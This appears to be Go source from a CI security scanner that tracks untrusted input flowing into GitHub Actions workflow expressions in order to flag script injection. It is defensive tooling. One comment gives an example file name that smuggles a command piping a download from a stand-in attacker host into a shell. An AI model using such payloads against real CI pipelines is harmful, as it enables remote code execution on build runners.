package cicheck

import (
	"strings"
	"unicode/utf8"

	"github.com/rhysd/actionlint"

	"github.com/buildwall/buildwall/internal/ciconfig"
)

// taint is what, besides github.event.* and github.head_ref, the
// expressions of one step may expand from untrusted input: environment
// variables set from it (env: at any level, or written to $GITHUB_ENV by an
// earlier step), and context paths that carry it — inputs.* of
// workflow_dispatch and workflow_call (and of a composite action whose
// caller passes untrusted values), matrix.* rows built from untrusted
// values, steps.<id>.outputs.* written from untrusted values.
type taint struct {
	env *taintScope
	// paths maps a lower-case context path (inputs.x, matrix.x,
	// github.event.inputs.x, steps.id.outputs.y) to where its value comes
	// from; nil when there are none.
	paths map[string]string
	// soft lists the paths whose source needs write access to the
	// repository (workflow_dispatch inputs) or depends on a caller
	// (workflow_call inputs): findings from them alone are medium.
	soft map[string]bool
	// owned is set once paths and soft belong to this job alone (copied
	// from the workflow's), so that later additions need no copy.
	owned bool
	// ghEnv is the job's layer of variables written to $GITHUB_ENV (the
	// top of the job's env chain once set); one map however many steps
	// write, so that lookups do not walk a layer per write.
	ghEnv *taintScope
	// prFiles is set when a pull request can start the workflow: then
	// the outputs of actions that report its branch or changed file
	// names (attackerOutputs) carry the pull request author's text.
	prFiles bool
	// outputFilter maps a steps.<id>.outputs.* path to the action whose
	// attackerOutputs filter says which outputs are untrusted. It is
	// written only after paths is owned, and shares its lifetime.
	outputFilter map[string]string
}

// any reports whether some variable or path may carry untrusted input.
func (t *taint) any() bool { return t != nil && (t.env.any() || len(t.paths) > 0) }

// withEnv returns t over the env: entries of one more level.
func (t taint) withEnv(env []ciconfig.Pair) taint {
	t.env = taintedEnv(t.env, env)
	return t
}

// addPath records that path (lower case) carries input from origin. The
// maps are copied on the first write of a job (when not owned), so that
// a job's additions do not leak into its siblings.
func (t *taint) addPath(path, origin string, soft bool) {
	if !t.owned {
		t.owned = true
		paths := make(map[string]string, len(t.paths)+1)
		for k, v := range t.paths {
			paths[k] = v
		}
		t.paths = paths
		if len(t.soft) > 0 {
			s := make(map[string]bool, len(t.soft))
			for k, v := range t.soft {
				s[k] = v
			}
			t.soft = s
		}
	}
	if t.paths == nil {
		t.paths = map[string]string{}
	}
	t.paths[path] = capOrigin(origin)
	if soft {
		if t.soft == nil {
			t.soft = map[string]bool{}
		}
		t.soft[path] = true
	} else if t.soft[path] {
		delete(t.soft, path)
	}
}

// maxOrigin bounds the description of where a value comes from: each
// propagation step names the previous one, and a chain of thousands of
// steps must not make descriptions (and the scan) quadratic.
const maxOrigin = 240

func capOrigin(s string) string {
	if len(s) <= maxOrigin {
		return s
	}
	cut := maxOrigin
	for cut > 0 && !utf8.RuneStart(s[cut]) {
		cut--
	}
	return s[:cut] + "…"
}

// workflowTaint is the taint every job of w starts from: its free-text
// inputs when it runs on workflow_dispatch or workflow_call.
func workflowTaint(w *ciconfig.Workflow) taint {
	t := taint{env: taintedEnv(nil, w.Env)}
	for i := range w.On {
		e := &w.On[i]
		for _, in := range e.Inputs {
			if !in.FreeText() {
				continue
			}
			origin := e.Name.Value + " input " + in.Name
			t.addPath("inputs."+in.Name, origin, true)
			if e.Name.Value == "workflow_dispatch" {
				t.addPath("github.event.inputs."+in.Name, origin, true)
			}
		}
	}
	t.owned = false // shared by the jobs
	t.prFiles = triggered(w, forkPRTriggers) != nil || w.Trigger("workflow_run") != nil
	return t
}

// attackerOutputs are actions whose outputs hold a pull request's branch
// name or changed file names, which its author chooses freely (a file
// named $(curl evil.example|sh).txt is a valid name), by lower-case action
// name: the output names that do, or nil for all of them.
var attackerOutputs = map[string]func(output string) bool{
	"tj-actions/changed-files": func(o string) bool { return strings.Contains(o, "files") },
	"dorny/paths-filter":       func(o string) bool { return strings.HasSuffix(o, "_files") },
	"tj-actions/branch-names":  nil,
	"tj-actions/verify-changed-files": func(o string) bool {
		return strings.Contains(o, "files")
	},
}

// actionOutputs records, when t.prFiles, that step s's outputs from an
// attackerOutputs action are untrusted (as steps.<id>.outputs.* with a
// filter checked in taintedRefs).
func actionOutputs(jt taint, s *ciconfig.Step) taint {
	if !jt.prFiles || s.ID == nil || s.Uses == nil {
		return jt
	}
	name := actionName(s)
	if _, ok := attackerOutputs[name]; !ok {
		return jt
	}
	jt.addPath("steps."+strings.ToLower(s.ID.Value)+".outputs.*", name, false)
	if jt.outputFilter == nil {
		jt.outputFilter = map[string]string{}
	}
	jt.outputFilter["steps."+strings.ToLower(s.ID.Value)+".outputs.*"] = name
	return jt
}

// jobTaint is t plus the job's env: and its matrix rows whose values
// expand untrusted input. t is not modified.
func jobTaint(t taint, j *ciconfig.Job) taint {
	t = t.withEnv(j.Env)
	t.owned, t.ghEnv, t.outputFilter = false, nil, nil
	if j.MatrixExpr != nil {
		// matrix: ${{ fromJSON(...) }}: every row comes from it.
		if from, soft := untrustedIn1(j.MatrixExpr.Value, &t); from != "" {
			t.addPath("matrix.*", "the matrix, set from "+from, soft)
		}
	}
	for _, row := range j.Matrix {
		for i := range row.Values {
			v := row.Values[i].Value
			if !strings.Contains(v, "${{") {
				continue
			}
			if from, soft := untrustedIn1(v, &t); from != "" {
				t.addPath("matrix."+strings.ToLower(row.Name.Value), "matrix."+row.Name.Value+" set from "+from, soft)
				break
			}
		}
	}
	return t
}

// jobOutputs records in wt, for the jobs after j, which of j's outputs
// (needs.<id>.outputs.<name>) carry untrusted input under jt, the taint
// j's steps ended with.
func jobOutputs(wt *taint, j *ciconfig.Job, jt *taint) {
	for _, o := range j.Outputs {
		if o.Value == nil || !strings.Contains(o.Value.Value, "${{") {
			continue
		}
		if from, soft := untrustedIn1(o.Value.Value, jt); from != "" {
			wt.addPath("needs."+strings.ToLower(j.ID.Value)+".outputs."+strings.ToLower(o.Name.Value),
				"output "+o.Name.Value+" of job "+j.ID.Value+" set from "+from, soft)
		}
	}
}

// untrustedIn1 returns the first untrusted input that value's expressions
// expand (under t), and whether it is soft; "" when none.
func untrustedIn1(value string, t *taint) (string, bool) {
	for _, e := range expressions(value) {
		if len(e.Untrusted) > 0 {
			return e.Untrusted[0], false
		}
		if t.any() {
			if refs, soft := taintedRefsParsed(value[e.Start:e.End], t); len(refs) > 0 {
				return refs[0], soft
			}
		}
	}
	return "", false
}

// taintedRefs returns a description of every context path in expression
// text that t says carries untrusted input, and whether all of them are
// soft (see taint.soft).
func taintedRefs(text string, t *taint) (refs []string, soft bool) {
	soft = true
	for i := 0; i < len(text); {
		c := text[i]
		if c == '\'' { // skip string literals
			j := strings.IndexByte(text[i+1:], '\'')
			if j < 0 {
				break
			}
			i += j + 2
			continue
		}
		if !isIdentStart(c) {
			i++
			continue
		}
		j := i
		for j < len(text) && (isWordByte(text[j]) || text[j] == '*') {
			j++
		}
		tok := text[i:j]
		i = j
		if len(tok) > 4 && equalFoldASCII(tok[:4], "env.") {
			name := tok[4:]
			name, _, _ = strings.Cut(name, ".")
			if set, from, ok := t.env.lookupName(name); ok {
				refs = append(refs, "env."+set+" set from "+from)
				soft = false
			}
			continue
		}
		if len(t.paths) == 0 {
			continue
		}
		low := strings.ToLower(tok)
		for _, n := range [...]int{2, 4} { // inputs.x, matrix.x; steps.id.outputs.y, github.event.inputs.x
			p := prefixSegments(low, n)
			from, ok := t.paths[p]
			if !ok && n == 2 && strings.HasPrefix(p, "matrix.") {
				from, ok = t.paths["matrix.*"]
			}
			if !ok && n == 4 && p != "" {
				// steps.<id>.outputs.* of an attackerOutputs action.
				wild := p[:strings.LastIndexByte(p, '.')] + ".*"
				if action, isOut := t.outputFilter[wild]; isOut {
					if keep := attackerOutputs[action]; keep == nil || keep(p[len(wild)-1:]) {
						from, ok = "an output of "+action+" holding the pull request's branch or file names", true
					}
				}
			}
			if ok {
				desc := p
				if from != "" && from != p {
					desc += " (" + from + ")"
				}
				refs = append(refs, desc)
				soft = soft && t.soft[p]
				break
			}
		}
	}
	return refs, soft && len(refs) > 0
}

// prefixSegments returns the first n dot-separated segments of p, or ""
// when it has fewer.
func prefixSegments(p string, n int) string {
	at := 0
	for k := 0; k < n; k++ {
		i := strings.IndexByte(p[at:], '.')
		if i < 0 {
			if k == n-1 {
				return p
			}
			return ""
		}
		if k == n-1 {
			return p[:at+i]
		}
		at += i + 1
	}
	return p
}

// taintedRefsParsed is taintedRefs for the paths whose value reaches the
// expansion: it parses expression text (from "${{" on) and drops paths
// reduced to a boolean or number (${{ inputs.debug == 'true' && '-v' ||
// ” }}, contains(matrix.os, 'win')), as untrustedIn does for the event.
// When the text does not parse, the textual answer stands.
func taintedRefsParsed(text string, t *taint) ([]string, bool) {
	refs, soft := taintedRefs(text, t)
	if len(refs) == 0 && !strings.Contains(text, "[") {
		return nil, false // bracket notation (env['X']) needs the parser
	}
	node, err := actionlint.NewExprParser().Parse(actionlint.NewExprLexer(strings.TrimPrefix(text, "${{")))
	if err != nil {
		return refs, soft
	}
	var live []string
	walkExpanded(node, func(n actionlint.ExprNode, reduced bool) actionlint.ExprNode {
		p, base := chainPath(n)
		if p != "" && !reduced {
			live = append(live, p)
		}
		return base
	})
	if len(live) == 0 {
		return nil, false
	}
	return taintedRefs(strings.Join(live, " "), t)
}

// chainPath renders a property-access chain as a dotted path
// (inputs['x'].y gives inputs.x.y, a non-literal index gives *), or ""
// with the chain's root when that is not a context name (a function call).
func chainPath(n actionlint.ExprNode) (string, actionlint.ExprNode) {
	switch n := n.(type) {
	case *actionlint.VariableNode:
		return n.Name, nil
	case *actionlint.ObjectDerefNode:
		p, base := chainPath(n.Receiver)
		if p == "" {
			return "", base
		}
		return p + "." + n.Property, nil
	case *actionlint.ArrayDerefNode:
		p, base := chainPath(n.Receiver)
		if p == "" {
			return "", base
		}
		return p + ".*", nil
	case *actionlint.IndexAccessNode:
		p, base := chainPath(n.Operand)
		if p == "" {
			return "", base
		}
		if s, ok := n.Index.(*actionlint.StringNode); ok {
			return p + "." + s.Value, nil
		}
		return p + ".*", nil
	}
	return "", n
}
